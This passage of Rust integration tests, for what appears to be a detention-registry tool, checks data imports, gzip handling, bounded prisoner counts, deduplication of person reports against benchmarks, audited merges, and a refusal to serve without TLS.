    // The revision's mapping on `file`, with `more` options.
    let revise = |file: &Path, more: &[&str]| {
        let mut args = vec![
            "import",
            "events",
            file.to_str().unwrap(),
            "--mapping",
            &mapping,
        ];
        args.extend_from_slice(more);
        r.run(&args)
    };
    let out = revise(
        &damaged,
        &["--rejects", rejects.to_str().unwrap(), "--whole-list"],
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("line 43, column *: the row has 16 cells and the header 15"));
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        said.contains("not set to 0: that is done only with the whole list, with no row rejected"),
        "{said}"
    );
    // The rejects file (the reject columns first, the extra cell last), mended by taking the
    // extra cell out: one row of one day, not said to be the whole list, which sets nothing
    // else of that day to 0.
    let written = std::fs::read_to_string(&rejects).unwrap();
    let mut rows = written.lines();
    let header = rows.next().unwrap();
    assert!(
        header.starts_with("reject_line,reject_column,reject_reason,Id,"),
        "{header}"
    );
    let row = rows.next().unwrap();
    assert!(row.starts_with("43,*,"), "{row}");
    let mended = r.write(
        "mended.csv",
        &format!("{header}\n{}\n", row.strip_suffix(',').unwrap()),
    );
    let out = String::from_utf8_lossy(&revise(&mended, &[]).stdout).to_string();
    assert!(out.contains("1 row read: 1 stored"), "{out}");
    assert!(
        out.contains("if this file is the whole list, import it with --whole-list"),
        "{out}"
    );
    // Said to be the whole list by mistake (the command of a revision reused), a rejects file
    // is still not one.
    let out = String::from_utf8_lossy(&revise(&mended, &["--whole-list"]).stdout).to_string();
    assert!(out.contains("not set to 0: it is a rejects file"), "{out}");
    // The events the whole list drops still count (4,852 once it is imported, below).
    assert!(
        as_known_now() > 4852,
        "nothing set to 0 by a part of the list"
    );
    let revision = [
        "import",
        "events",
        &list("events_2011-12_to_2012-12.csv"),
        "--mapping",
        &mapping,
        "--whole-list",
    ];
    r.ok(&revision);
    let period = |known_on: Option<&str>| -> (i64, i64) {
        let mut args = vec![
            "balance",
            "--as-of",
            "2012-09-29",
            "--since",
            "2011-12-03",
            "--format",
            "json",
        ];
        if let Some(k) = known_on {
            args.extend(["--known-on", k]);
        }
        let b: serde_json::Value = serde_json::from_str(&r.ok(&args)).unwrap();
        (
            b["period"]["events"].as_i64().unwrap(),
            b["period"]["political_detentions"].as_i64().unwrap(),
        )
    };
    assert_eq!(
        period(Some("2012-11-08")),
        (180, 4885),
        "as OVD-Info knew it on 2012-11-08"
    );
    assert_eq!(period(None), (183, 4852), "as known now");
    // The Ostankino picket of 18.03.2012 keeps its history: 100 as first known, then 95.
    let db = open_keyed(&r.path("registry.db"));
    let history: Vec<(String, String)> = db
        .prepare(
            "SELECT f.recorded_on, f.change FROM facts f JOIN records g ON g.kind = 'group' AND f.subject_kind = 'group' AND f.subject_id = g.id \
             WHERE g.state LIKE '%2012-03-18%' AND g.state LIKE '%Останкино%' ORDER BY f.seq",
        )
        .unwrap()
        .query_map([], |row| Ok((row.get(0)?, row.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(history.len(), 2, "{history:?}");
    assert!(
        history[0].0 == "2012-11-08" && history[0].1.contains("\"count\":100"),
        "{history:?}"
    );
    assert!(
        history[1].0 == "2013-01-10" && history[1].1.contains("\"count\":95"),
        "{history:?}"
    );
    // Importing the revision again adds nothing.
    let again = r.ok(&revision);
    assert!(again.contains("0 stored (0 new facts)"), "{again}");
}

#[test]
fn cecc_status_counts_and_partial_dates_as_bounds() {
    let data = real_data("china-cecc-chrd");
    let r = Registry::sqlite();
    r.ok(&["init", "--profile", &repo_file("profiles/cn.toml")]);
    let rejects = r.path("rejects.csv");
    let out = r.run(&[
        "import",
        "detentions",
        data.join("cecc_ppd_retrieved_2020-07-27.csv.gz")
            .to_str()
            .unwrap(),
        "--mapping",
        &repo_file("examples/cecc/cecc-2020-07-27.toml"),
        "--rejects",
        rejects.to_str().unwrap(),
    ]);
    // CECC's own inconsistencies (a release dated before the detention) are reported, not guessed at.
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("10,271 rows read: 10,260 stored"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        stderr(&out).contains(
            "line 6360, column end_date: the end 2010-04-19 is before the arrest 2011-04-14"
        ),
        "{}",
        stderr(&out)
    );

    let at = |day: &str| -> serde_json::Value {
        serde_json::from_str(&r.ok(&["balance", "--as-of", day, "--format", "json"])).unwrap()
    };
    let snapshot = at("2020-07-27");
    // DET-family 1,587 plus HOUSE 6, and certain: nothing held that day rests on a guess.
    assert_eq!(snapshot["held"]["lower"], 1593);
    assert_eq!(snapshot["held"]["upper"], 1593);
    assert_eq!(snapshot["held"]["by"]["house_arrest"]["true"], 6);
    assert_eq!(snapshot["held"]["by"]["house_arrest"]["false"], 1587);
    // On 2008-06-26 CECC published a partial list of 734 detained; most releases have no date,
    // so the registry can only bound that day's stock — and the bounds must hold the 734.
    let past = at("2008-06-26");
    let (lower, upper) = (
        past["held"]["lower"].as_u64().unwrap(),
        past["held"]["upper"].as_u64().unwrap(),
    );
    assert!(lower <= 734 && 734 <= upper, "[{lower}, {upper}]");
    assert!(
        upper - lower > 1000,
        "undated releases make a wide, honest interval: [{lower}, {upper}]"
    );
}

#[test]
fn a_gzip_file_is_read_exactly_as_the_plain_one() {
    // Detentions with bad rows: the same rows stored, the same lines in the same messages, the
    // same rejects file. The gzip file is two members end to end, as `cat a.gz b.gz` makes.
    let text = format!("{HEADER}\n{SEVEN_ROWS_FIVE_BAD}");
    let half = text.find("\nD4").unwrap() + 1;
    let mut two_members = gzip(&text.as_bytes()[..half]);
    two_members.extend(gzip(&text.as_bytes()[half..]));
    let events = real_data("ovdinfo-moscow-2011-2013").join("events_2013.csv");
    let events = std::fs::read(events).unwrap();
    let mut seen = Vec::new();
    for (suffix, detentions, events) in [
        ("", text.as_bytes().to_vec(), events.clone()),
        (".gz", two_members, gzip(&events)),
    ] {
        let r = Registry::sqlite();
        r.ok(&["init"]);
        let file = r.path(&format!("in.csv{suffix}"));
        std::fs::write(&file, detentions).unwrap();
        let (rejects, export) = (r.path("rejects.csv"), r.path("out.csv"));
        let out = import_rejecting(&r, &file, &rejects);
        r.ok(&["export", "detentions", "--out", export.to_str().unwrap()]);
        let read = |p: &Path| std::fs::read_to_string(p).unwrap();
        let detentions = (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).to_string(),
            // Progress lines come after two seconds: on a loaded machine, not on a quiet one.
            (stderr(&out).replace(r.dir.path().to_str().unwrap(), "DIR"))
                .lines()
                .filter(|l| !(l.starts_with("importing: ") && l.contains('%')))
                .map(|l| format!("{l}\n"))
                .collect::<String>(),
            read(&rejects),
            read(&export),
        );

        let r = Registry::sqlite();
        r.ok(&["init", "--profile", &repo_file("profiles/ru.toml")]);
        let file = r.path(&format!("events.csv{suffix}"));
        std::fs::write(&file, events).unwrap();
        let imported = r.ok(&[
            "import",
            "events",
            file.to_str().unwrap(),
            "--mapping",
            &repo_file("examples/ovdinfo/events-2013.toml"),
        ]);
        let mut balance: serde_json::Value = serde_json::from_str(&r.ok(&[
            "balance",
            "--as-of",
            "2013-12-31",
            "--since",
            "2013-01-01",
            "--format",
            "json",
        ]))
        .unwrap();
        // Each registry's chain has its own head (its facts are encrypted with its own key).
        balance["ledger_head"].take();
        seen.push((detentions, imported, balance));
    }
    let (detentions, imported, _) = &seen[0];
    assert_eq!(detentions.0, Some(2), "{detentions:?}");
    assert!(
        detentions.1.contains("7 rows read: 2 stored"),
        "{detentions:?}"
    );
    assert!(
        detentions.2.contains("line 7, column end_type"),
        "{detentions:?}"
    );
    assert!(imported.contains("235 rows read"), "{imported}");
    assert_eq!(seen[0], seen[1], "plain, then gzip");
}

#[test]
fn a_damaged_gzip_file_is_refused_naming_it_and_nothing_is_stored() {
    let dir = tempfile::tempdir().unwrap();
    let demo = dir.path().join("demo.csv");
    Registry::sqlite().ok(&[
        "demo",
        "--seed",
        "3",
        "--detentions",
        "2000",
        "--csv",
        demo.to_str().unwrap(),
    ]);
    let ovdinfo = real_data("ovdinfo-moscow-2011-2013").join("events_2013.csv");
    let detentions = Registry::sqlite();
    detentions.ok(&["init"]);
    let events = Registry::sqlite();
    events.ok(&["init", "--profile", &repo_file("profiles/ru.toml")]);
    let before = (detentions.ok(&["verify"]), events.ok(&["verify"]));
    for (plain, r, command) in [
        (&demo, &detentions, &["import", "detentions"][..]),
        (
            &ovdinfo,
            &events,
            &[
                "import",
                "events",
                "--mapping",
                &repo_file("examples/ovdinfo/events-2013.toml"),
            ],
        ),
    ] {
        let text = std::fs::read(plain).unwrap();
        let good = gzip(&text);
        let n = good.len();
        let mut flipped = good.clone();
        flipped[n / 2] ^= 0x55;
        let mut bad_checksum = good.clone();
        bad_checksum[n - 6] ^= 0x01;
        for (what, bytes) in [
            ("not gzip at all", text.clone()),
            ("cut in the middle", good[..n / 2].to_vec()),
            ("a byte changed in the middle", flipped),
            ("every row whole, the checksum wrong", bad_checksum),
            ("empty", Vec::new()),
        ] {
            let file = r.path("damaged.csv.gz");
            std::fs::write(&file, bytes).unwrap();
            let out = r.run(&[command, &[file.to_str().unwrap()]].concat());
            assert_eq!(out.status.code(), Some(2), "{what}: {}", stderr(&out));
            assert!(
                stderr(&out).contains(&format!(
                    "{}: not a valid gzip file (its name ends in .gz)",
                    file.display()
                )),
                "{what}: {}",
                stderr(&out)
            );
            assert!(out.stdout.is_empty(), "{what}: nothing read, nothing said");
        }
    }
    assert_eq!(
        (detentions.ok(&["verify"]), events.ok(&["verify"])),
        before,
        "the registries are as they were"
    );
}

#[test]
fn a_balance_is_shaped_like_foro_penals_and_keeps_its_identities() {
    // Foro Penal publishes totals with breakdowns by sex, civilian/military, age, convicted,
    // whereabouts unknown and foreign nationality; no record-level list is public. Check that
    // every published breakdown has its place in Vigilia's balance, that the published
    // balances' own identities hold, and that Vigilia's hold at the same dates.
    let data = real_data("foro-penal-published");
    let ours = |breakdown: &str| -> Option<(&'static str, &'static str)> {
        Some(match breakdown {
            "sex=male" => ("sex", "M"),
            "sex=female" => ("sex", "F"),
            "status=civilian" => ("civilian_military", "civilian"),
            "status=military" => ("civilian_military", "military"),
            "age=adult" => ("age", "adult"),
            "age=adolescent" | "age=minor" => ("age", "adolescent"),
            "legal=convicted" => ("convicted", "true"),
            "legal=not_convicted" => ("convicted", "false"),
            "whereabouts=unknown" => ("whereabouts_unknown", "true"),
            "nationality=foreign" => ("nationality", "foreign"),
            _ => return None,
        })
    };
    let mut published: std::collections::BTreeMap<String, std::collections::BTreeMap<String, i64>> =
        Default::default();
    let mut rd = csv::Reader::from_path(data.join("published_counts.csv")).unwrap();
    for row in rd.records().map(Result::unwrap) {
        if &row[1] == "political_prisoners" {
            published
                .entry(row[0].to_string())
                .or_default()
                .insert(row[2].to_string(), row[3].parse().unwrap());
            if &row[2] != "total" {
                assert!(
                    ours(&row[2]).is_some(),
                    "a published breakdown Vigilia has no place for: {}",
                    &row[2]
                );
            }
        }
    }
    for (when, figures) in &published {
        let total = figures.get("total");
        for (a, b) in [
            ("sex=male", "sex=female"),
            ("status=civilian", "status=military"),
            ("legal=convicted", "legal=not_convicted"),
        ] {
            if let (Some(t), Some(x), Some(y)) = (total, figures.get(a), figures.get(b)) {
                assert_eq!(x + y, *t, "{when}: {a} + {b}");
            }
        }
    }
    // Vigilia's balance, on a demo registry, at the published dates.
    let r = Registry::sqlite();
    r.ok(&["demo", "--seed", "5", "--detentions", "6000"]);
    for day in [
        "2021-04-05",
        "2021-12-06",
        "2024-12-16",
        "2025-01-09",
        "2025-08-07",
    ] {
        let b: serde_json::Value =
            serde_json::from_str(&r.ok(&["balance", "--as-of", day, "--format", "json"])).unwrap();
        let p = &b["political_prisoners"];
        let total = p["total"].as_u64().unwrap();
        assert!(total > 0, "{day}");
        for dim in [
            "sex",
            "civilian_military",
            "age",
            "convicted",
            "whereabouts_unknown",
            "nationality",
        ] {
            let sum: u64 = p["by"][dim]
                .as_object()
                .unwrap()
                .values()
                .map(|v| v.as_u64().unwrap())
                .sum();
            assert_eq!(sum, total, "{day}: {dim} sums to the total");
        }
        for breakdown in [
            "sex=male",
            "status=military",
            "age=adolescent",
            "legal=convicted",
            "whereabouts=unknown",
            "nationality=foreign",
        ] {
            // Fixed vocabularies list every value, zeros included: each published one is there.
            let (dim, value) = ours(breakdown).unwrap();
            assert!(p["by"][dim].get(value).is_some(), "{day}: {dim}={value}");
        }
    }
}

#[test]
fn dedupe_finds_one_person_in_many_reports_and_refuses_bad_files() {
    let r = Registry::sqlite();
    let file = r.write(
        "reports.csv",
        "report_id,source,given_names,surnames,cedula,birth_date,sex\n\
         r1,familia,José Gregorio,Pérez Rodríguez,V-12.345.678,15/03/1985,M\n\
         r2,ong,JOSE G.,PEREZ,12345678,1985-03-15,Masculino\n\
         r3,abogado,Goyo,Pérez Rodríguez,C.I. 12.345.679,15/03/85,M\n\
         r4,familia,María,González,V-20111222,01/01/1990,F\n\
         r5,prensa,Maria,Gonzales,,1990-01-01,Mujer\n\
         r6,redes,Luis,Díaz,V-9999999,1970-05-05,M\n\
         r7,familia,Carmen,Rojas,V-7777777,1960-02-02,F\n",
    );
    let out = r.path("clusters.csv");
    let said = r.ok(&[
        "dedupe",
        file.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(said.contains("7 reports: 4 persons"), "{said}");
    let clusters = pairs_of_csv(&out);
    assert_eq!(
        clusters["r2"], clusters["r1"],
        "initial and no maternal surname"
    );
    assert_eq!(clusters["r3"], clusters["r1"], "nickname and a cédula typo");
    assert_eq!(
        clusters["r5"], clusters["r4"],
        "spelling as heard, no cédula"
    );
    assert_ne!(clusters["r6"], clusters["r7"]);

    for (text, expected) in [
        (
            "nombre,cedula\nJosé,123\n",
            "line 1: the reports CSV needs a report_id column",
        ),
        (
            "report_id,given_names\nr1,Ana\nr1,Ana\n",
            "line 3, column report_id: \"r1\" already appears on line 2",
        ),
    ] {
        let bad = r.write("bad.csv", text);
        let out = r.path("bad-clusters.csv");
        let run = r.run(&[
            "dedupe",
            bad.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ]);
        assert_eq!(run.status.code(), Some(2));
        assert!(stderr(&run).contains(expected), "{}", stderr(&run));
        assert!(!out.exists(), "nothing partial written");
    }

    // Files written must be files of their own: not the file read (it was replaced by the
    // clusters), not both the same (the pairs were replaced by the clusters), not a folder (the
    // work was done, then lost). Nothing is read or written then.
    let original = std::fs::read(&file).unwrap();
    let folder = r.path("folder");
    std::fs::create_dir(&folder).unwrap();
    let pairs = r.path("pairs.csv");
    // The input read through a link to it, the output given its real name.
    let link = r.path("link.csv");
    std::os::unix::fs::symlink(&file, &link).unwrap();
    for (input, out, pairs, named) in [
        (&file, &file, None, "reports.csv: named twice"),
        (&link, &file, None, "reports.csv: named twice"),
        (&file, &out, Some(&out), "clusters.csv: named twice"),
        (&file, &folder, None, "folder: not a plain file"),
        (&file, &out, Some(&folder), "folder: not a plain file"),
    ] {
        let mut args = vec![
            "dedupe",
            input.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ];
        args.extend(pairs.iter().flat_map(|p| ["--pairs", p.to_str().unwrap()]));
        let before = std::fs::read(out).ok();
        let run = r.run(&args);
        assert_eq!(run.status.code(), Some(2), "{args:?}");
        assert!(stderr(&run).contains(named), "{args:?}: {}", stderr(&run));
        assert_eq!(std::fs::read(out).ok(), before, "{args:?}");
    }
    assert_eq!(std::fs::read(&file).unwrap(), original);
    assert!(folder.is_dir() && !pairs.exists());
}

/// The hardest reports the generator writes (as heard over a phone, the mother's surname alone,
/// married names, cédula typos of every kind, dates to the month or a year off, and relatives of
/// one family arrested together): a user runs `demo-reports` and `dedupe` and gets persons close
/// to the truth. Splink, on the same generator at 10,000 reports, scores F1 0.795 and B³ 0.884
/// (bench/matching).
#[test]
fn dedupe_quality_on_the_hardest_generated_reports() {
    let r = Registry::sqlite();
    let (file, truth_file, out) = (
        r.path("reports.csv"),
        r.path("truth.csv"),
        r.path("clusters.csv"),
    );
    let path = |p: &std::path::Path| p.to_str().unwrap().to_string();
    r.ok(&[
        "demo-reports",
        "--seed",
        "11",
        "--count",
        "5000",
        "--out",
        &path(&file),
        "--truth",
        &path(&truth_file),
    ]);
    r.ok(&["dedupe", &path(&file), "--out", &path(&out)]);
    let s = score(&pairs_of_csv(&truth_file), &pairs_of_csv(&out));
    eprintln!("hardest generated: {s:?}");
    assert!(s.precision >= 0.85 && s.recall >= 0.95, "{s:?}");
    assert!(s.f1 >= 0.9 && s.bcubed_f1 >= 0.95, "{s:?}");
}

/// Reports a matcher tuned on easy data gets wrong: two brothers of one family arrested together
/// (both surnames, the day, the place; different given names and cédulas) are two persons, even
/// with a report between them that fits both; a woman reported by her mother's surname alone, or
/// with her husband's (`de Martínez`), and a cédula with a digit left out are one; names written
/// as `-` are unknown, not equal.
#[test]
fn dedupe_keeps_brothers_apart_and_finds_married_and_maternal_names() {
    let rows: Vec<Vec<String>> = [
        "b1,Carlos Alberto,Urdaneta Quintero,V-14.222.333,03/05/1980,Zulia,12/03/2024,El Helicoide",
        "b2,Carlos,Urdaneta Quintero,14222333,,Zulia,12/03/2024,El Helicoide",
        "b3,Rafael,Urdaneta Quintero,V-16.555.777,,Zulia,12/03/2024,El Helicoide",
        "b4,Rafael Antonio,Urdaneta Quintero,16555777,21/11/1984,Edo. Zulia,12/03/2024,El Helicoide",
        "m1,Yusmary,Colmenares Arocha,V-18.444.999,02/02/1986,Lara,05/06/2023,INOF",
        "m2,Yusmary,Colmenares de Briceño,1844999,02/02/1986,Lara,05/06/2023,INOF",
        "m3,Yusmary,Arocha,V-18.444.999,,Lara,06/06/2023,INOF",
        "x1,,Urdaneta Quintero,,,Zulia,12/03/2024,El Helicoide",
        "u1,-,?,V-5.111.222,,Táchira,01/02/2025,Rodeo I",
        "u2,?,-,V-9.888.777,,Táchira,01/02/2025,Rodeo I",
    ]
    .iter()
    .map(|l| l.split(',').map(str::to_string).collect())
    .collect();
    let c = dedupe_rows(&Registry::sqlite(), &REPORT_COLUMNS, &rows);
    assert_eq!(c["b1"], c["b2"]);
    assert_eq!(c["b3"], c["b4"]);
    assert_ne!(c["b1"], c["b3"], "brothers arrested together");
    // A report with neither given name nor cédula fits both brothers: it joins one of them,
    // never both into one.
    assert!(c["x1"] == c["b1"] || c["x1"] == c["b3"], "{c:?}");
    // Names written as `-` or `?` are unknown, not the same name.
    assert_ne!(c["u1"], c["u2"], "two unknown names, two cédulas");
    assert_eq!(c["m1"], c["m2"], "her husband's surname, a digit left out");
    assert_eq!(c["m1"], c["m3"], "her mother's surname alone");
}

/// The columns of the hand-written reports of the matching tests below.
const REPORT_COLUMNS: [&str; 8] = [
    "report_id",
    "given_names",
    "surnames",
    "cedula",
    "birth_date",
    "state",
    "arrest_date",
    "facility",
];

/// A report copied hundreds of times (passed on from chat to chat, sent again and again) is one
/// person, not hundreds: its blocks are over every rule's limit, and the copies are still
/// compared with each other. Other people beside it stay themselves.
#[test]
fn a_report_copied_hundreds_of_times_is_one_person() {
    let copy =
        "Carlos Alberto,Urdaneta Quintero,V-14.222.333,03/05/1980,Zulia,12/03/2024,El Helicoide";
    let mut rows: Vec<Vec<String>> = (0..600)
        .map(|n| format!("c{n},{copy}"))
        .chain((0..40).map(|n| {
            let given = [
                "Ana", "Luis", "Marta", "Pedro", "Rosa", "Jorge", "Elena", "Simón",
            ];
            let surname = ["Pérez", "Rojas", "Mora", "Díaz", "Silva"];
            format!(
                "o{n},{},{} Gil,V-{},01/01/19{},Lara,0{}/02/2024,INOF",
                given[n % 8],
                surname[n / 8],
                20_000_000 + n * 7919,
                50 + n,
                1 + n % 9
            )
        }))
        .map(|l| l.split(',').map(str::to_string).collect())
        .collect();
    // The same copies, in another order, are still one person.
    rows.rotate_left(17);
    let c = dedupe_rows(&Registry::sqlite(), &REPORT_COLUMNS, &rows);
    let copies: std::collections::HashSet<&String> =
        (0..600).map(|n| &c[format!("c{n}").as_str()]).collect();
    assert_eq!(copies.len(), 1, "600 copies, one person");
    let others: std::collections::HashSet<&String> =
        (0..40).map(|n| &c[format!("o{n}").as_str()]).collect();
    assert_eq!(others.len(), 40, "forty other people");
    assert!(!others.contains(copies.iter().next().unwrap()));
}

/// Pairwise and B-cubed scores of a clustering (report → cluster) against the truth.
#[derive(Debug)]
struct Scores {
    precision: f64,
    recall: f64,
    f1: f64,
    bcubed_f1: f64,
}

fn score(
    truth: &std::collections::HashMap<String, String>,
    predicted: &std::collections::HashMap<String, String>,
) -> Scores {
    use std::collections::HashMap;
    let mut joint: HashMap<(&str, &str), f64> = HashMap::new();
    let (mut t, mut p): (HashMap<&str, f64>, HashMap<&str, f64>) = Default::default();
    for (k, e) in truth {
        let c = predicted[k].as_str();
        *joint.entry((e, c)).or_default() += 1.0;
        *t.entry(e).or_default() += 1.0;
        *p.entry(c).or_default() += 1.0;
    }
    fn pairs<K>(m: &HashMap<K, f64>) -> f64 {
        m.values().map(|n| n * (n - 1.0) / 2.0).sum()
    }
    let tp = pairs(&joint);
    let (precision, recall) = (tp / pairs(&p).max(1.0), tp / pairs(&t).max(1.0));
    let n = truth.len() as f64;
    let (mut bp, mut br) = (0.0, 0.0);
    for (k, e) in truth {
        let c = predicted[k].as_str();
        bp += joint[&(e.as_str(), c)] / p[c] / n;
        br += joint[&(e.as_str(), c)] / t[e.as_str()] / n;
    }
    Scores {
        precision,
        recall,
        f1: 2.0 * precision * recall / (precision + recall),
        bcubed_f1: 2.0 * bp * br / (bp + br),
    }
}

/// Writes `rows` (report_id first) as a reports CSV, runs `vigilia dedupe` on it and returns
/// each report's cluster.
fn dedupe_rows(
    r: &Registry,
    header: &[&str],
    rows: &[Vec<String>],
) -> std::collections::HashMap<String, String> {
    let file = r.path("reports.csv");
    let mut w = csv::Writer::from_path(&file).unwrap();
    w.write_record(header).unwrap();
    for row in rows {
        w.write_record(row).unwrap();
    }
    w.flush().unwrap();
    let out = r.path("clusters.csv");
    r.ok(&[
        "dedupe",
        file.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    pairs_of_csv(&out)
}

/// A two-column CSV (clusters, or the truth) as a map from its first column to its second.
fn pairs_of_csv(path: &std::path::Path) -> std::collections::HashMap<String, String> {
    csv::Reader::from_path(path)
        .unwrap()
        .records()
        .map(|x| {
            let x = x.unwrap();
            (x[0].to_string(), x[1].to_string())
        })
        .collect()
}

#[test]
fn dedupe_quality_on_splinks_fake_1000() {
    // Splink's fake_1000 (1,000 records of 251 people, heavily corrupted) with the columns the
    // reports format has (its e-mail column is left out).
    let data = real_data("record-linkage-benchmarks");
    let r = Registry::sqlite();
    let mut truth = std::collections::HashMap::new();
    let mut rows = Vec::new();
    for rec in csv::Reader::from_path(data.join("splink_fake_1000.csv"))
        .unwrap()
        .records()
    {
        let rec = rec.unwrap();
        truth.insert(rec[0].to_string(), rec[6].to_string());
        rows.push((0..5).map(|i| rec[i].to_string()).collect());
    }
    let header = [
        "report_id",
        "given_names",
        "surnames",
        "birth_date",
        "state",
    ];
    let s = score(&truth, &dedupe_rows(&r, &header, &rows));
    eprintln!("fake_1000: {s:?}");
    // Splink itself, on the same columns, scores F1 0.36 (bench/matching).
    assert!(s.precision >= 0.95, "{s:?}");
    assert!(
        s.recall >= 0.33 && s.f1 >= 0.5 && s.bcubed_f1 >= 0.65,
        "{s:?}"
    );
}

#[test]
fn dedupe_quality_on_febrl_1_to_4() {
    // The Febrl benchmarks: the social security number plays the cédula, the Australian state
    // the state. Dataset 4 is its two files together.
    let data = real_data("record-linkage-benchmarks");
    let r = Registry::sqlite();
    let header = [
        "report_id",
        "given_names",
        "surnames",
        "birth_date",
        "cedula",
        "state",
    ];
    for files in [
        &["febrl_dataset1.csv"][..],
        &["febrl_dataset2.csv.gz"],
        &["febrl_dataset3.csv.gz"],
        &["febrl_dataset4a.csv.gz", "febrl_dataset4b.csv.gz"],
    ] {
        let mut truth = std::collections::HashMap::new();
        let mut rows = Vec::new();
        for (n, file) in files.iter().enumerate() {
            let mut reader = read_table(
                &data.join(file),
                csv::ReaderBuilder::new().trim(csv::Trim::All),
            );
            for rec in reader.records() {
                let rec = rec.unwrap();
                let id = format!("{n}:{}", &rec[0]);
                truth.insert(id.clone(), rec[0].split('-').nth(1).unwrap().to_string());
                let dob = &rec[9];
                let dob = if dob.len() == 8 {
                    format!("{}-{}-{}", &dob[..4], &dob[4..6], &dob[6..])
                } else {
                    dob.to_string()
                };
                rows.push(vec![
                    id,
                    rec[1].to_string(),
                    rec[2].to_string(),
                    dob,
                    rec[10].to_string(),
                    rec[8].to_string(),
                ]);
            }
        }
        let s = score(&truth, &dedupe_rows(&r, &header, &rows));
        eprintln!("{files:?}: {s:?}");
        assert!(s.precision >= 0.99 && s.recall >= 0.95, "{files:?}: {s:?}");
        assert!(s.f1 >= 0.97 && s.bcubed_f1 >= 0.98, "{files:?}: {s:?}");
    }
}

#[test]
fn catalonia_person_count_is_within_one_percent_of_the_archives() {
    // 69,629 military-court procedures; the Arxiu Nacional de Catalunya counted 66,590 persons.
    // Grouping by exact name gives 65,990, merging hundreds of namesakes.
    let data = real_data("catalonia-franco-military-courts");
    let r = Registry::sqlite();
    let mut rows = Vec::new();
    for rec in read_table(
        &data.join("procediments_1938-1978.csv.gz"),
        &csv::ReaderBuilder::new(),
    )
    .records()
    {
        let rec = rec.unwrap();
        let sex = match &rec[2] {
            "Home" => "M",
            "Dona" => "F",
            _ => "",
        };
        rows.push(vec![
            rec[11].to_string(),
            rec[1].to_string(),
            rec[0].to_string(),
            sex.to_string(),
            rec[6].to_string(),
        ]);
    }
    let header = ["report_id", "given_names", "surnames", "sex", "arrest_date"];
    let clusters = dedupe_rows(&r, &header, &rows);
    let persons = clusters
        .values()
        .collect::<std::collections::HashSet<_>>()
        .len();
    eprintln!("catalonia: {persons} persons");
    assert!(
        (65_924..=67_256).contains(&persons) && persons >= 65_965,
        "{persons} persons, published 66,590"
    );
    assert!(
        persons.abs_diff(66_590) < 66_590 - 65_990,
        "{persons}: no better than grouping by exact name"
    );
}

#[test]
fn registry_persons_are_proposed_merged_unmerged_and_found_for_new_reports() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let file = r.write(
        "detentions.csv",
        "detention_ref,person_ref,given_names,paternal_surname,maternal_surname,national_id,sex,birth_date,arrest_date,arrest_state,recorded_on\n\
         D-1,P-1,José Gregorio,Pérez,Rodríguez,V-12345678,M,1985-03-15,2024-08-01,Zulia,2024-08-02\n\
         D-2,P-2,Goyo,Pérez,Rodríguez,V-12345678,M,1985-03-15,2024-08-03,Zulia,2024-08-04\n\
         D-3,P-3,María,González,Díaz,V-20111222,F,1990-01-01,2024-08-01,Lara,2024-08-02\n\
         D-4,P-4,Luis,Rojas,Marcano,V-9999999,M,1970-05-05,2024-08-01,Lara,2024-08-02\n",
    );
    r.ok(&["import", "detentions", file.to_str().unwrap()]);

    // The registry's own persons: P-1 and P-2 are proposed, nobody else.
    let proposals = r.path("proposals.csv");
    r.ok(&["dedupe", "--out", proposals.to_str().unwrap()]);
    let rows: Vec<csv::StringRecord> = csv::Reader::from_path(&proposals)
        .unwrap()
        .records()
        .map(|x| x.unwrap())
        .collect();
    assert_eq!(rows.len(), 1, "{rows:?}");
    let (a, b) = (rows[0][0].to_string(), rows[0][2].to_string());
    assert!(rows[0][1].contains("Pérez") && rows[0][3].contains("Pérez"));

    let facts = |said: String| -> u64 {
        said.split("Chain intact: ")
            .nth(1)
            .unwrap()
            .split(' ')
            .next()
            .unwrap()
            .parse()
            .unwrap()
    };
    let before = facts(r.ok(&["verify"]));

    // A merge needs a reason, is a fact with its actor, and can be undone.
    let no_reason = r.run(&["merge", &a, "--into", &b, "--reason", " "]);
    assert_eq!(no_reason.status.code(), Some(2));
    r.ok(&[
        "merge",
        &a,
        "--into",
        &b,
        "--reason",
        "misma cédula; la madre lo confirmó",
    ]);
    r.ok(&["dedupe", "--out", proposals.to_str().unwrap()]);
    assert_eq!(
        csv::Reader::from_path(&proposals)
            .unwrap()
            .records()
            .count(),
        0,
        "merged persons are not proposed again"
    );
    let twice = r.run(&["merge", &a, "--into", &b, "--reason", "otra vez"]);
    assert!(
        stderr(&twice).contains("already merged"),
        "{}",
        stderr(&twice)
    );
    r.ok(&["unmerge", &a, "--reason", "eran primos"]);
    r.ok(&["dedupe", "--out", proposals.to_str().unwrap()]);
    assert_eq!(
        csv::Reader::from_path(&proposals)
            .unwrap()
            .records()
            .count(),
        1
    );
    assert_eq!(
        facts(r.ok(&["verify"])),
        before + 2,
        "the merge and its undoing are two facts; the refused ones left nothing"
    );

    // New reports get their ranked candidates.
    let reports = r.write(
        "reports.csv",
        "report_id,given_names,surnames,cedula,birth_date\n\
         n1,MARIA,GONZALES,20.111.222,01/01/90\n\
         n2,Pedro,Nadie,V-5555555,1950-01-01\n",
    );
    let out = r.path("candidates.csv");
    let said = r.ok(&[
        "candidates",
        reports.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(said.contains("2 reports against 4 persons"), "{said}");
    let found: Vec<csv::StringRecord> = csv::Reader::from_path(&out)
        .unwrap()
        .records()
        .map(|x| x.unwrap())
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((&found[0][0], &found[0][1]), ("n1", "1"));
    assert!(found[0][3].contains("María"), "{found:?}");
}

#[test]
fn serve_refuses_to_run_insecurely_and_says_how_to_fix_it() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    // Anyone else but loopback, without TLS.
    let out = r.run(&["serve", "--bind", "0.0.0.0:8080"]);
    assert_eq!(out.status.code(), Some(2));
